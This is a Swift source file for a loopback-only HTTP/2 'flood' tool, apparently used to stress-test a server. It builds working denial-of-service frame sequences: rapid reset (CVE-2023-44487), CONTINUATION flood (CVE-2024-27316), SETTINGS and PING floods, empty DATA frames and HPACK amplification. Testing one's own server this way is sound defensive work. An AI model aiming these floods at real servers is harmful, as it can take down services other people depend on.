import ArgumentParser
import Glibc
import Reactor
import Time

/// What is sent without end, and never meant to be answered.
enum FloodKind: String, CaseIterable, ExpressibleByArgument {
    /// Requests, each taken back at once (CVE-2023-44487).
    case reset
    /// A field block that never ends (CVE-2024-27316).
    case continuation
    case settings
    case ping
    /// A request's body in frames without a byte.
    case empty
    /// One long field in the table, and blocks of references to it.
    case hpack

    /// What stands before everything else on a connection.
    func opening(_ authority: String) -> [UInt8] {
        switch self {
        case .reset, .settings, .ping, .hpack: []
        case .continuation:
            Frame.bytes(
                .headers, flags: Frame.endStream, stream: 1,
                Frame.requestFields(path: "/", authority: authority))
        case .empty:
            Frame.bytes(
                .headers, flags: Frame.endHeaders, stream: 1,
                Frame.requestFields(path: "/", authority: authority, isPost: true))
        }
    }

    /// The next frames; `stream` is the next one that may be opened.
    func batch(_ authority: String, _ stream: inout UInt32) -> [UInt8] {
        switch self {
        case .reset:
            let fields = Frame.requestFields(path: "/", authority: authority)
            return (0..<64).flatMap { _ in
                defer { stream += 2 }
                return Frame.bytes(
                    .headers, flags: Frame.endHeaders | Frame.endStream, stream: stream, fields)
                    + Frame.bytes(.reset, stream: stream, Frame.octets(8))
            }
        case .continuation:
            return Self.repeated(
                64, Frame.bytes(.continuation, stream: 1, Frame.literal("x-more", "and more")))
        case .settings:
            return Self.repeated(256, Frame.bytes(.settings, [0, 3] + Frame.octets(100)))
        case .ping:
            return Self.repeated(256, Frame.bytes(.ping, [1, 2, 3, 4, 5, 6, 7, 8]))
        case .empty:
            return Self.repeated(512, Frame.bytes(.data, stream: 1))
        case .hpack:
            defer { stream += 2 }
            // The newest entry of the table has the index 62. A block as long as a frame may be, of
            // references.
            let long = [0x40] + Frame.string("x") + Frame.string(String(repeating: "v", count: 4000))
            let block =
                Frame.requestFields(path: "/", authority: authority) + long
                + [UInt8](repeating: 0xBE, count: 12_000)
            return Frame.bytes(.headers, flags: Frame.endHeaders | Frame.endStream, stream: stream, block)
        }
    }

    private static func repeated(_ count: Int, _ frame: [UInt8]) -> [UInt8] {
        (0..<count).flatMap { _ in frame }
    }
}

struct FloodCommand: ParsableCommand {
    static let configuration = CommandConfiguration(
        commandName: "flood",
        abstract:
            "One client of HTTP/2 that misbehaves as fast as it can, on one connection after the other.",
        discussion: "What comes back is read and forgotten. Loopback only.")

    @Option(help: "Port on 127.0.0.1.")
    var port: UInt16

    @Option(help: "reset, continuation, settings, ping, empty or hpack.")
    var kind: FloodKind

    @Option(help: "Seconds.")
    var seconds = 6.0

    @Option(help: "Milliseconds from the end of a connection to the next one.")
    var pause = 100

    func validate() throws {
        guard (0...60).contains(seconds), pause >= 0 else { throw ValidationError("0 to 60 seconds") }
    }

    func run() throws {
        let tls = try TLSClient(application: "h2")
        let ends = SystemClock.now() + .seconds(seconds)
        var connections = 0
        var refused = 0
        var sent = 0
        while SystemClock.now() < ends {
            if let connection = try? StreamConnection(port: port, tls: tls, limit: .seconds(2)) {
                connections += 1
                sent += flood(connection, until: ends)
                connection.close()
            } else {
                refused += 1
                SystemClock.pause(.milliseconds(20))
            }
            if pause > 0, SystemClock.now() < ends { SystemClock.pause(.milliseconds(pause)) }
        }
        Output.write("{\"connections\": \(connections), \"refused\": \(refused), \"sent_bytes\": \(sent)}\n")
    }

    /// Until the peer ends it, or the time is over. Returns the bytes that were sent.
    private func flood(_ connection: StreamConnection, until ends: Instant) -> Int {
        let authority = "127.0.0.1:\(port)"
        var stream: UInt32 = kind.opening(authority).isEmpty ? 1 : 3
        var sent = 0
        connection.say(kind.opening(authority))
        while SystemClock.now() < ends, stream < 0x7FFF_0000 {
            if !connection.hasUnsent {
                let batch = kind.batch(authority, &stream)
                connection.say(batch)
                sent += batch.count
            }
            guard connection.send(), connection.discard() else { break }
            if connection.hasUnsent {
                _ = StreamConnection.wait(connection.socket, for: POLLIN | POLLOUT, until: ends)
            }
        }
        return sent
    }
}
